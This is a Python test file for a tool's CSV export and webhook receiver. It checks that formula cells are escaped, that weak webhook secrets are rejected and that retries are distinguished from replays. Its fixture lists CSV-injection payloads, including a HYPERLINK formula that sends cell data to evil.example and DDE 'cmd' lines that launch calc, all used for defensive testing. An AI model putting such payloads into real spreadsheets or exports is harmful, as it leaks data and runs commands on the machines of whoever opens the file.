"""Exports and webhooks an attacker cannot abuse: CSV formula cells are neutralised, weak
webhook secrets are refused, and a webhook whose handler failed is handled again on retry."""

from __future__ import annotations

import base64
import csv
import json
import time
from pathlib import Path

import httpx
import pytest

from respnb.server.webhooks import check_webhook_secret
from respnb.tasks import TaskRegistry, TaskTable
from respnb.tasks._csvsafe import TRIGGERS
from respnb.tasks.webhooks import MIN_SECRET_BYTES, WebhookReceiver, WebhookVerifier, sign
from respnb.types import Response

FORMULAS = [
    '=HYPERLINK("https://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.fixture
def table(tmp_path: Path) -> TaskTable:
    reg = TaskRegistry(tmp_path / "t.sqlite3")
    for i, prompt in enumerate([*FORMULAS, "a plain prompt = fine"]):
        reg.record_response(
            Response.model_validate({"id": f"r{i}", "status": "completed", "model": "m"}),
            profile="openai",
            base_url="http://h/v1",
            body={"input": prompt},
        )
    return TaskTable(reg)


def _cells(path: Path) -> dict[str, str]:
    with path.open(newline="", encoding="utf-8") as fh:
        return {row["id"]: row["prompt"] for row in csv.DictReader(fh)}


def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(
    table: TaskTable, tmp_path: Path
) -> None:
    cells = _cells(table.to_csv(tmp_path / "safe.csv"))
    for i, formula in enumerate(FORMULAS):
        assert cells[f"r{i}"] == "'" + formula
        assert not cells[f"r{i}"].startswith(TRIGGERS)
    assert cells[f"r{len(FORMULAS)}"] == "a plain prompt = fine"  # other text is untouched
    raw = _cells(table.to_csv(tmp_path / "raw.csv", safe=False))  # switchable
    assert [raw[f"r{i}"] for i in range(len(FORMULAS))] == FORMULAS
    assert table.frame()["prompt"].tolist()[: len(FORMULAS)] == FORMULAS  # the data is kept


@pytest.mark.parametrize("secret", ["whsec_", "", "whsec_" + base64.b64encode(b"short").decode()])
def test_empty_or_short_webhook_secrets_are_refused(secret: str) -> None:
    with pytest.raises(ValueError, match=f"at least {MIN_SECRET_BYTES}"):
        WebhookVerifier(secret)
    with pytest.raises(ValueError, match="16 bytes"):
        check_webhook_secret(secret or "whsec_")
    with pytest.raises(ValueError, match="at least"):
        sign(secret, "m", 0, b"{}")


def test_a_failed_handler_gets_the_retry() -> None:
    secret = "whsec_" + base64.b64encode(b"k" * 32).decode()
    seen: list[str] = []

    def handler(payload: dict[str, object]) -> None:
        seen.append(str(payload["id"]))
        if len(seen) == 1:
            raise RuntimeError("the first delivery fails")

    body = json.dumps({"id": "evt_1", "type": "response.completed", "data": {"id": "r"}}).encode()
    with WebhookReceiver(secret, handler) as rx:
        assert rx.url is not None

        def deliver() -> int:
            ts = int(time.time())
            headers = {
                "webhook-id": "msg_1",
                "webhook-timestamp": str(ts),
                "webhook-signature": sign(secret, "msg_1", ts, body),
                "content-type": "application/json",
            }
            return httpx.post(rx.url or "", content=body, headers=headers, timeout=30).status_code

        assert deliver() == 500  # the sender will retry
        assert deliver() == 204  # the retry is handled, not refused as a replay
        assert deliver() == 400  # now it is a replay
    assert seen == ["evt_1", "evt_1"]
    assert (rx.accepted, rx.failed, rx.rejected) == (1, 1, 1)
